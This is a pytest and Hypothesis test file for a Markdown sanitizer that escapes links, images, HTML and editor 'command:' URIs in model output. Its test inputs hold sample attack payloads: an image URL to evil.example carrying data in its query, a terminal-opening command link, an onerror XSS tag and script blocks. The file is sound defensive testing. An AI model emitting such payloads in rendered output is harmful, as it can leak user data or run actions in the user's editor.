"""What a page shows of a model's Markdown: nothing that loads, leads or runs."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from glossator.text.safe_markdown import LONGEST_PARSED, MOST_MARKS, harmless

STAYS = [
    "Adds `prices` up, **twice**.\n\n1. first\n2. *second*\n\n> quoted\n",
    "Returns `list[int]`, `a[0](x)` and `<b>`.\n",
    "```python\nrows: list[list[int]] = f[0](x)\n<b>![i](u)</b>\n```\n",
    "1. like so:\n   ```html\n   <a href='x'>[y](z)</a>\n   ```\n2. next\n",
    "    indented[0](code) <b>\n",
    "x[0] < y and a[i] > 3, or [sic]\n",
    "- [ ] to do\n- [x] done\n",
    "See https://docs.python.org/3/ for more.\n",
    "| a | b |\n| - | - |\n| `x[1](2)` | < 3 |\n",
    "\\[already](so) and \\<b>\n",
]

ACTIVE = [
    ("[docs](https://evil.example)", "\\[docs](https://evil.example)"),
    (
        "[run](command:workbench.action.terminal.new)",
        "\\[run](command:workbench.action.terminal.new)",
    ),
    ("![](https://evil.example/?code=x)", "!\\[](https://evil.example/?code=x)"),
    ("[![a](b)](c)", "\\[!\\[a](b)](c)"),
    ("<command:run>", "\\<command:run>"),
    ("<https://evil.example>", "\\<https://evil.example>"),
    ("<img src=x onerror=alert(1)>", "\\<img src=x onerror=alert(1)>"),
    ("a <b>c</b>", "a \\<b>c\\</b>"),
    ("<script>\nx\n</script>", "\\<script>\nx\n\\</script>"),
    ("<!-- [a](b) -->", "\\<!-- \\[a](b) -->"),
    ("[a]\n\n[a]: command:x", "\\[a]\n\n[a]: command:x"),
    ("[a][b]\n\n[b]: <x>", "\\[a]\\[b]\n\n[b]: <x>"),
    ("\\\\[a](b)", "\\\\\\[a](b)"),
    ("`x` [a](b) `[c](d)`", "`x` \\[a](b) `[c](d)`"),
    ("a ` b\n[c](d) e", "a ` b\n\\[c](d) e"),
    ("- ```\n  x\n[a](b)", "- ```\n  x\n\\[a](b)"),
    ("> ```\n[a](b)", "> ```\n\\[a](b)"),
    ("```\nx\n```\n[a](b)\n```\n[c](d)", "```\nx\n```\n\\[a](b)\n```\n[c](d)"),
    ("| a | b |\n|-|-|\n| ` | [x](y) ` |", "| a | b |\n|-|-|\n| ` | \\[x](y) ` |"),
]


@pytest.mark.parametrize("text", STAYS)
def test_what_does_nothing_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize(("text", "shown"), ACTIVE)
def test_what_would_do_something_is_shown_as_it_is_written(text: str, shown: str) -> None:
    assert harmless(text) == shown
    is_harmless(shown)


def is_harmless(text: str) -> None:
    """Hold a text against the parsers of editors' previews, with the attributes that they emit."""
    for parser in (MarkdownIt("commonmark"), MarkdownIt("gfm-like", {"linkify": False})):
        html = re.sub("<code.*?</code>", "", parser.enable("table").render(text), flags=re.DOTALL)
        assert not re.search(r"<(?:a|img|script|iframe)\b|\b(?:href|src|onerror)=\"", html)
        tags = set(re.findall(r"</?([A-Za-z][\w-]*)", html))
        assert tags <= MADE_BY_MARKDOWN


MADE_BY_MARKDOWN = {
    *("p", "em", "strong", "s", "ul", "ol", "li", "blockquote", "hr", "br", "code", "pre"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}

MARKS = r"""
[ ] ( ) ! < > ` `` ``` ~~~ \ \\ | - * _ # : a b https://x command:x <b> </b> <!-- --> <? ?> 1.
<![CDATA[ ]]> [a] [a]: [a](b) ![a](b) <script> <pre> [^1] &#91; &lt; "t"
""".split()
SPACES = ["\n", "\n\n", " ", "    ", "\t", "> ", "- ", "\n```\n", "\n|-|-|\n", "\n===\n", "\r"]
TEXTS = st.lists(st.sampled_from([*MARKS, *SPACES]), max_size=40).map("".join)


@settings(deadline=None)
@given(TEXTS)
def test_no_text_is_left_active(text: str) -> None:
    shown = harmless(text)
    is_harmless(shown)
    assert harmless(shown) == shown


@settings(deadline=None)
@given(TEXTS)
def test_only_backslashes_are_added_or_a_fence_around_all(text: str) -> None:
    shown = harmless(text)
    assert shown.replace("\\", "").strip("~\n") == text.replace("\\", "").strip("~\n")


@pytest.mark.parametrize("piece", ["[", "<a", "![a](b) ", "[a][b] *_", "<!-- `", "> [a](b)\n"])
def test_a_long_or_crowded_text_is_harmless_too(piece: str) -> None:
    shown = harmless("[x](y) " + piece * (max(LONGEST_PARSED, MOST_MARKS) // len(piece)))
    assert "[x](y)" not in shown.replace("\\[", "")
    is_harmless(shown[:2_000])
